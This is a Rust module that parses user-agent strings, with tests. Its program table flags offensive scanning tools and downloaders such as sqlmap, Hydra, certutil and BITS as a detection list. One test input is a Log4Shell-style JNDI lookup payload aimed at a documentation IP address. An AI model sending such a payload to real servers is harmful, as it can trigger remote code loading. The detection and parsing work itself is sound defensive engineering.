//! User agents: which program, version, system and sort of device.
//!
//! Two tables of words, one for programs and one for systems, searched in one pass each; of the
//! words found the one that stands first in its table counts, so the tables go from the special to
//! the general. A program that is in no table is called what it calls itself before its first `/`.
//! A user agent is a claim of the client: tools name themselves only while nobody hides.

use std::borrow::Cow;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

/// Bytes of a user agent that are looked at.
const AGENT_BYTES_MAX: usize = 1024;
/// Longest name and longest version that a client can give itself, in bytes.
const WORD_BYTES_MAX: usize = 48;

/// What sort of program it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Kind {
    /// A person looks at what it shows.
    Browser,
    /// It visits by itself and says so: search engines, previews, monitors.
    Bot,
    /// Scripts and programs speak through it: curl, requests.
    Library,
    /// It looks for weaknesses.
    Scanner,
    /// Anything else that names itself.
    App,
}

impl Kind {
    /// The lower-case word in events.
    pub fn name(self) -> &'static str {
        match self {
            Kind::Browser => "browser",
            Kind::Bot => "bot",
            Kind::Library => "library",
            Kind::Scanner => "scanner",
            Kind::App => "app",
        }
    }
}

/// What a user agent says. Unknown parts are `None`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Agent<'a> {
    /// The program: `Firefox`, `curl`.
    pub name: Cow<'a, str>,
    /// Its version as it writes it: `128.0`.
    pub version: Option<&'a str>,
    /// What sort of program it is.
    pub kind: Kind,
    /// The system: `Windows`, `Android`.
    pub os: Option<&'static str>,
    /// The system's version: `10`, `17.1`.
    pub os_version: Option<Cow<'a, str>>,
    /// `desktop`, `phone`, `tablet`, `tv` or `console`.
    pub device: Option<&'static str>,
}

/// The word, the program, what it is, and the word before the version if that is another one. The
/// word begins where a word begins. No program: it is called as the text around the word.
type Program = (&'static str, &'static str, Kind, &'static str);

const PROGRAMS: &[Program] = &[
    // What looks for weaknesses.
    ("sqlmap", "sqlmap", Kind::Scanner, ""),
    ("nikto", "Nikto", Kind::Scanner, ""),
    ("nmap", "Nmap", Kind::Scanner, ""),
    ("masscan", "masscan", Kind::Scanner, ""),
    ("zgrab", "zgrab", Kind::Scanner, ""),
    ("nuclei", "Nuclei", Kind::Scanner, ""),
    ("gobuster", "gobuster", Kind::Scanner, ""),
    ("dirbuster", "DirBuster", Kind::Scanner, ""),
    ("fuzz faster u fool", "ffuf", Kind::Scanner, "v"),
    ("feroxbuster", "feroxbuster", Kind::Scanner, ""),
    ("wfuzz", "Wfuzz", Kind::Scanner, ""),
    ("wpscan", "WPScan", Kind::Scanner, "WPScan v"),
    ("whatweb", "WhatWeb", Kind::Scanner, ""),
    ("openvas", "OpenVAS", Kind::Scanner, ""),
    ("nessus", "Nessus", Kind::Scanner, ""),
    ("acunetix", "Acunetix", Kind::Scanner, ""),
    ("arachni", "Arachni", Kind::Scanner, ""),
    ("burpcollaborator", "Burp", Kind::Scanner, ""),
    ("zaproxy", "ZAP", Kind::Scanner, ""),
    ("w3af", "w3af", Kind::Scanner, ""),
    ("jorgee", "Jorgee", Kind::Scanner, ""),
    ("hydra", "Hydra", Kind::Scanner, ""),
    ("httpx -", "httpx", Kind::Scanner, ""),
    ("expanse", "Expanse", Kind::Scanner, ""),
    ("censysinspect", "Censys", Kind::Scanner, ""),
    ("internetmeasurement", "InternetMeasurement", Kind::Scanner, ""),
    // Libraries and tools of the command line.
    ("curl/", "curl", Kind::Library, ""),
    ("libcurl", "curl", Kind::Library, ""),
    ("wget", "Wget", Kind::Library, ""),
    ("python-requests", "python-requests", Kind::Library, ""),
    ("python-urllib", "Python-urllib", Kind::Library, ""),
    ("python-httpx", "python-httpx", Kind::Library, ""),
    ("aiohttp", "aiohttp", Kind::Library, ""),
    ("scrapy", "Scrapy", Kind::Library, ""),
    ("go-http-client", "Go-http-client", Kind::Library, ""),
    ("fasthttp", "fasthttp", Kind::Library, ""),
    ("okhttp", "okhttp", Kind::Library, ""),
    ("apache-httpclient", "Apache-HttpClient", Kind::Library, ""),
    ("java-http-client", "Java-http-client", Kind::Library, ""),
    ("java/", "Java", Kind::Library, ""),
    ("libwww-perl", "libwww-perl", Kind::Library, ""),
    ("guzzlehttp", "GuzzleHttp", Kind::Library, ""),
    ("axios", "axios", Kind::Library, ""),
    ("node-fetch", "node-fetch", Kind::Library, ""),
    ("undici", "undici", Kind::Library, ""),
    ("reqwest", "reqwest", Kind::Library, ""),
    ("ruby", "Ruby", Kind::Library, ""),
    ("winhttp", "WinHTTP", Kind::Library, ""),
    ("winrm", "WinRM", Kind::Library, ""),
    ("windowspowershell", "PowerShell", Kind::Library, ""),
    ("powershell", "PowerShell", Kind::Library, ""),
    ("microsoft bits", "BITS", Kind::Library, ""),
    ("certutil", "CertUtil", Kind::Library, ""),
    ("postmanruntime", "Postman", Kind::Library, ""),
    ("httpie", "HTTPie", Kind::Library, ""),
    ("aws-cli", "aws-cli", Kind::Library, ""),
    ("aws-sdk", "aws-sdk", Kind::Library, ""),
    ("boto3", "Boto3", Kind::Library, ""),
    ("botocore", "Boto3", Kind::Library, ""),
    ("terraform", "Terraform", Kind::Library, ""),
    ("kubectl", "kubectl", Kind::Library, ""),
    ("git/", "git", Kind::Library, ""),
    // Bots whose word is not their name, then all that call themselves one.
    ("mediapartners-google", "Mediapartners-Google", Kind::Bot, ""),
    ("apis-google", "APIs-Google", Kind::Bot, ""),
    ("google-read-aloud", "Google-Read-Aloud", Kind::Bot, ""),
    ("yahoo! slurp", "Yahoo! Slurp", Kind::Bot, ""),
    ("facebookexternalhit", "facebookexternalhit", Kind::Bot, ""),
    ("whatsapp", "WhatsApp", Kind::Bot, ""),
    ("skypeuripreview", "SkypeUriPreview", Kind::Bot, ""),
    ("chatgpt-user", "ChatGPT-User", Kind::Bot, ""),
    ("uptime-kuma", "Uptime-Kuma", Kind::Bot, ""),
    ("kube-probe", "kube-probe", Kind::Bot, ""),
    ("elb-healthchecker", "ELB-HealthChecker", Kind::Bot, ""),
    ("googlehc", "GoogleHC", Kind::Bot, ""),
    ("bot", "", Kind::Bot, ""),
    ("spider", "", Kind::Bot, ""),
    ("crawl", "", Kind::Bot, ""),
    ("headlesschrome", "HeadlessChrome", Kind::Bot, ""),
    ("phantomjs", "PhantomJS", Kind::Bot, ""),
    // Browsers: each also claims to be those below it.
    ("edg/", "Edge", Kind::Browser, ""),
    ("edge/", "Edge", Kind::Browser, ""),
    ("edga/", "Edge", Kind::Browser, ""),
    ("edgios/", "Edge", Kind::Browser, ""),
    ("opr/", "Opera", Kind::Browser, ""),
    ("opera", "Opera", Kind::Browser, ""),
    ("vivaldi/", "Vivaldi", Kind::Browser, ""),
    ("yabrowser/", "Yandex Browser", Kind::Browser, ""),
    ("samsungbrowser/", "Samsung Internet", Kind::Browser, ""),
    ("ucbrowser/", "UC Browser", Kind::Browser, ""),
    ("duckduckgo/", "DuckDuckGo", Kind::Browser, ""),
    ("electron/", "Electron", Kind::App, ""),
    ("teams/", "Teams", Kind::App, ""),
    ("slack", "Slack", Kind::App, ""),
    ("thunderbird/", "Thunderbird", Kind::App, ""),
    ("microsoft outlook", "Outlook", Kind::App, ""),
    ("microsoft office", "Microsoft Office", Kind::App, ""),
    ("seamonkey/", "SeaMonkey", Kind::Browser, ""),
    ("fxios/", "Firefox", Kind::Browser, ""),
    ("focus/", "Firefox", Kind::Browser, ""),
    ("firefox/", "Firefox", Kind::Browser, ""),
    ("crios/", "Chrome", Kind::Browser, ""),
    ("chromium/", "Chromium", Kind::Browser, ""),
    ("chrome/", "Chrome", Kind::Browser, ""),
    ("safari/", "Safari", Kind::Browser, "Version/"),
    ("msie", "Internet Explorer", Kind::Browser, ""),
    ("trident/", "Internet Explorer", Kind::Browser, "rv:"),
    ("lynx/", "Lynx", Kind::Browser, ""),
];

/// The word, the system, the word before its version, the device. Android's depends on more.
type System = (&'static str, &'static str, &'static str, Option<&'static str>);

const SYSTEMS: &[System] = &[
    ("windows phone", "Windows Phone", "Windows Phone ", Some("phone")),
    ("xbox", "Xbox", "", Some("console")),
    ("playstation", "PlayStation", "PlayStation ", Some("console")),
    ("nintendo", "Nintendo", "", Some("console")),
    ("windows nt", "Windows", "Windows NT ", Some("desktop")),
    ("windows", "Windows", "Windows ", Some("desktop")),
    ("ipad", "iPadOS", "OS ", Some("tablet")),
    ("iphone", "iOS", "OS ", Some("phone")),
    ("ipod", "iOS", "OS ", Some("phone")),
    ("apple tv", "tvOS", "OS ", Some("tv")),
    ("mac os x", "macOS", "Mac OS X ", Some("desktop")),
    ("macintosh", "macOS", "", Some("desktop")),
    ("darwin", "Darwin", "Darwin/", None),
    ("android tv", "Android", "Android ", Some("tv")),
    ("web0s", "webOS", "", Some("tv")),
    ("smart-tv", "Tizen", "Tizen ", Some("tv")),
    ("tizen", "Tizen", "Tizen ", Some("phone")),
    ("android", "Android", "Android ", None),
    ("cros", "ChromeOS", "", Some("desktop")),
    ("kaios", "KaiOS", "KAIOS/", Some("phone")),
    ("ubuntu", "Ubuntu", "Ubuntu/", Some("desktop")),
    ("fedora", "Fedora", "Fedora/", Some("desktop")),
    ("linux", "Linux", "", Some("desktop")),
    ("freebsd", "FreeBSD", "FreeBSD ", Some("desktop")),
    ("openbsd", "OpenBSD", "OpenBSD ", Some("desktop")),
];

/// What people call a version of Windows NT. Windows 11 says 10.
const WINDOWS: &[(&str, &str)] = &[
    ("10.0", "10"),
    ("6.3", "8.1"),
    ("6.2", "8"),
    ("6.1", "7"),
    ("6.0", "Vista"),
    ("5.2", "2003"),
    ("5.1", "XP"),
    ("5.0", "2000"),
];

static PROGRAM_WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| words(PROGRAMS.iter().map(|p| p.0)));
static SYSTEM_WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| words(SYSTEMS.iter().map(|s| s.0)));

fn words(words: impl Iterator<Item = &'static str>) -> AhoCorasick {
    let built = AhoCorasick::builder().ascii_case_insensitive(true).build(words);
    built.expect("a few words make a small automaton")
}

/// Reads a user agent; `None` where it says nothing.
pub fn read(text: &str) -> Option<Agent<'_>> {
    let text = text[..text.floor_char_boundary(AGENT_BYTES_MAX)].trim();
    if text.is_empty() || text == "-" {
        return None;
    }
    let (name, version, kind) = program(text)?;
    let system = first(&SYSTEM_WORDS, text, |(_, at)| starts_word(text, at))
        .map(|(index, _)| SYSTEMS[index]);
    let (os, os_version, device) = match system {
        Some((_, "Windows", word, device)) => (Some("Windows"), windows(text, word), device),
        Some((_, os, word, device)) => {
            let version = number(text, word).map(|version| match version.contains('_') {
                true => Cow::Owned(version.replace('_', ".")),
                false => Cow::Borrowed(version),
            });
            (Some(os), version, device.or_else(|| (os == "Android").then(|| android(text))))
        }
        None => (None, None, None),
    };
    Some(Agent { name, version, kind, os, os_version, device })
}

fn windows<'a>(text: &'a str, word: &str) -> Option<Cow<'a, str>> {
    let number = number(text, word)?;
    let known = WINDOWS.iter().find(|(nt, _)| *nt == number && word == "Windows NT ");
    Some(Cow::Borrowed(known.map_or(number, |(_, name)| *name)))
}

/// Google's advice to makers: phones say `Mobile`, tablets do not.
fn android(text: &str) -> &'static str {
    if text.contains("Mobile") { "phone" } else { "tablet" }
}

fn program(text: &str) -> Option<(Cow<'_, str>, Option<&str>, Kind)> {
    let found = first(&PROGRAM_WORDS, text, |(index, at)| match PROGRAMS[index].1 {
        // A maker of phones.
        "" => !text[..at].to_ascii_lowercase().ends_with("cu"),
        _ => starts_word(text, at),
    });
    let Some((index, at)) = found else {
        return own_name(text);
    };
    let (word, name, kind, version_word) = PROGRAMS[index];
    if name.is_empty() {
        let (name, after) = word_around(text, at);
        return Some((Cow::Borrowed(name), digits(after), kind));
    }
    let version = match version_word {
        "" => digits(&text[at + word.len()..]),
        word => number(text, word),
    };
    Some((Cow::Borrowed(name), version, kind))
}

/// Whether a word begins there: `CrOS` is not in `Microsoft`.
fn starts_word(text: &str, at: usize) -> bool {
    !text[..at].ends_with(|c: char| c.is_ascii_alphanumeric())
}

/// The first of the table's words that is found: its position in the table and in the text.
fn first(
    words: &AhoCorasick,
    text: &str,
    counts: impl Fn((usize, usize)) -> bool,
) -> Option<(usize, usize)> {
    let found = words.find_overlapping_iter(text);
    found.map(|m| (m.pattern().as_usize(), m.start())).filter(|m| counts(*m)).min()
}

/// `name/version` at the start, whatever it is.
fn own_name(text: &str) -> Option<(Cow<'_, str>, Option<&str>, Kind)> {
    let (name, after) = word_around(text, 0);
    // What every browser begins with says nothing.
    match name {
        "" | "Mozilla" => None,
        name => Some((Cow::Borrowed(name), digits(after), Kind::App)),
    }
}

/// The word around a position, and the text after it.
fn word_around(text: &str, at: usize) -> (&str, &str) {
    let joins = |c: char| c.is_ascii_alphanumeric() || "-_.!".contains(c);
    let (before, after) = text.split_at(at);
    let start = before.trim_end_matches(joins).len();
    let end = text.len() - after.trim_start_matches(joins).len();
    let name = &text[start..end];
    (&name[..name.floor_char_boundary(WORD_BYTES_MAX)], &text[end..])
}

/// The version after a word, wherever that has one.
fn number<'a>(text: &'a str, word: &str) -> Option<&'a str> {
    match word {
        "" => None,
        word => text.match_indices(word).find_map(|(at, _)| digits(&text[at + word.len()..])),
    }
}

/// A version at the start, after one separator at most.
fn digits(text: &str) -> Option<&str> {
    let text = text.strip_prefix(['/', ' ', ':', '-']).unwrap_or(text);
    let text = text.strip_prefix('v').unwrap_or(text);
    let rest = text.trim_start_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '_');
    let version = text[..text.len() - rest.len()].trim_end_matches(['.', '_']);
    let version = &version[..version.len().min(WORD_BYTES_MAX)];
    version.starts_with(|c: char| c.is_ascii_digit()).then_some(version)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    /// `name version kind os os_version device`, with `-` for what is unknown.
    #[track_caller]
    fn check(text: &str, expected: &str) {
        let found = read(text).map_or("nothing".into(), |agent| {
            let or = |text: Option<&str>| text.unwrap_or("-").to_string();
            let version = agent.os_version.as_deref();
            let parts = [or(agent.version), agent.kind.name().into(), or(agent.os), or(version)];
            format!("{} {} {}", agent.name, parts.join(" "), or(agent.device))
        });
        assert_eq!(found, expected, "{text}");
    }

    #[test]
    fn browsers_and_their_systems() {
        let webkit = "AppleWebKit/537.36 (KHTML, like Gecko)";
        check(
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            "Firefox 128.0 browser Linux - desktop",
        );
        check(
            &format!(
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) {webkit} Chrome/120.0.0.0 Safari/537.36"
            ),
            "Chrome 120.0.0.0 browser Windows 10 desktop",
        );
        check(
            &format!(
                "Mozilla/5.0 (Windows NT 6.1) {webkit} Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2"
            ),
            "Edge 120.0.2 browser Windows 7 desktop",
        );
        check(
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like \
             Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
            "Safari 17.1 browser iOS 17.1 phone",
        );
        check(
            "Mozilla/5.0 (iPad; CPU OS 16_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) \
             CriOS/114.0.5735.99 Mobile/15E148 Safari/604.1",
            "Chrome 114.0.5735.99 browser iPadOS 16.5 tablet",
        );
        check(
            &format!(
                "Mozilla/5.0 (Linux; Android 14; Pixel 8) {webkit} Chrome/120.0.0.0 Mobile Safari/537.36"
            ),
            "Chrome 120.0.0.0 browser Android 14 phone",
        );
        check(
            &format!(
                "Mozilla/5.0 (Linux; Android 13; SM-X700) {webkit} SamsungBrowser/23.0 Chrome/115.0 Safari/537.36"
            ),
            "Samsung Internet 23.0 browser Android 13 tablet",
        );
        check(
            &format!(
                "Mozilla/5.0 (Linux; Android 10; CUBOT X30) {webkit} Chrome/115.0 Mobile Safari/537.36"
            ),
            "Chrome 115.0 browser Android 10 phone",
        );
        check(
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) \
             Version/17.2 Safari/605.1.15",
            "Safari 17.2 browser macOS 10.15.7 desktop",
        );
        check(
            "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
            "Internet Explorer 11.0 browser Windows 10 desktop",
        );
        check(
            "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)",
            "Internet Explorer 6.0 browser Windows XP desktop",
        );
        check(
            &format!(
                "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) {webkit} Chrome/120.0.0.0 Safari/537.36"
            ),
            "Chrome 120.0.0.0 browser ChromeOS - desktop",
        );
    }

    #[test]
    fn tools_and_libraries() {
        check("curl/7.88.1", "curl 7.88.1 library - - -");
        check("Wget/1.21.3 (linux-gnu)", "Wget 1.21.3 library Linux - desktop");
        check("python-requests/2.31.0", "python-requests 2.31.0 library - - -");
        check("Go-http-client/1.1", "Go-http-client 1.1 library - - -");
        check("Java/17.0.2", "Java 17.0.2 library - - -");
        check("sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap 1.7.2 scanner - - -");
        check("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)", "Nikto 2.1.6 scanner - - -");
        check(
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "Nmap - scanner - - -",
        );
        check("masscan/1.3 (https://github.com/x)", "masscan 1.3 scanner - - -");
        check("Mozilla/5.0 zgrab/0.x", "zgrab 0 scanner - - -");
        check("Fuzz Faster U Fool v2.0.0", "ffuf 2.0.0 scanner - - -");
        check("WPScan v3.8.22 (https://wpscan.com)", "WPScan 3.8.22 scanner - - -");
        check(
            "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1",
            "PowerShell 5.1.19041.1 library Windows 10 desktop",
        );
        check("Microsoft BITS/7.8", "BITS 7.8 library - - -");
        check("Boto3/1.26.0 Python/3.11 Linux/6.1", "Boto3 1.26.0 library Linux - desktop");
    }

    #[test]
    fn bots_are_called_as_they_call_themselves() {
        check(
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Googlebot 2.1 bot - - -",
        );
        check(
            "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
            "AhrefsBot 7.0 bot - - -",
        );
        check("Sogou web spider/4.0(+http://x.example)", "spider 4.0 bot - - -");
        check("kube-probe/1.28", "kube-probe 1.28 bot - - -");
        check(
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) \
             HeadlessChrome/119.0.0.0 Safari/537.36",
            "HeadlessChrome 119.0.0.0 bot Linux - desktop",
        );
    }

    #[test]
    fn the_unknown_names_itself() {
        check("MyBackup/3.2 (build 7)", "MyBackup 3.2 app - - -");
        check("Hello, world", "Hello - app - - -");
        check("Mozilla/5.0", "nothing");
        check("Mozilla/5.0 (Windows NT 10.0)", "nothing");
        check("", "nothing");
        check(" - ", "nothing");
        check("${jndi:ldap://192.0.2.1/a}", "nothing");
    }

    #[test]
    fn no_word_hides_another_of_its_table() {
        for (index, (word, name, ..)) in PROGRAMS.iter().enumerate() {
            let found = first(&PROGRAM_WORDS, word, |_| true).unwrap().0;
            assert_eq!(found, index, "{word} is found as {}, not {name}", PROGRAMS[found].0);
        }
        for (index, (word, ..)) in SYSTEMS.iter().enumerate() {
            let found = first(&SYSTEM_WORDS, word, |_| true).unwrap().0;
            assert_eq!(found, index, "{word} is found as {}", SYSTEMS[found].0);
        }
    }

    proptest! {
        #[test]
        fn any_text_is_read(text in "(?s).{0,1100}", word in 0..PROGRAMS.len(), at: usize) {
            read(&text);
            let mut at = at % (text.len() + 1);
            while !text.is_char_boundary(at) {
                at -= 1;
            }
            let mixed = format!("{}{}{}", &text[..at], PROGRAMS[word].0, &text[at..]);
            if let Some(agent) = read(&mixed) {
                prop_assert!(agent.name.len() <= WORD_BYTES_MAX.max(30));
            }
        }
    }
}
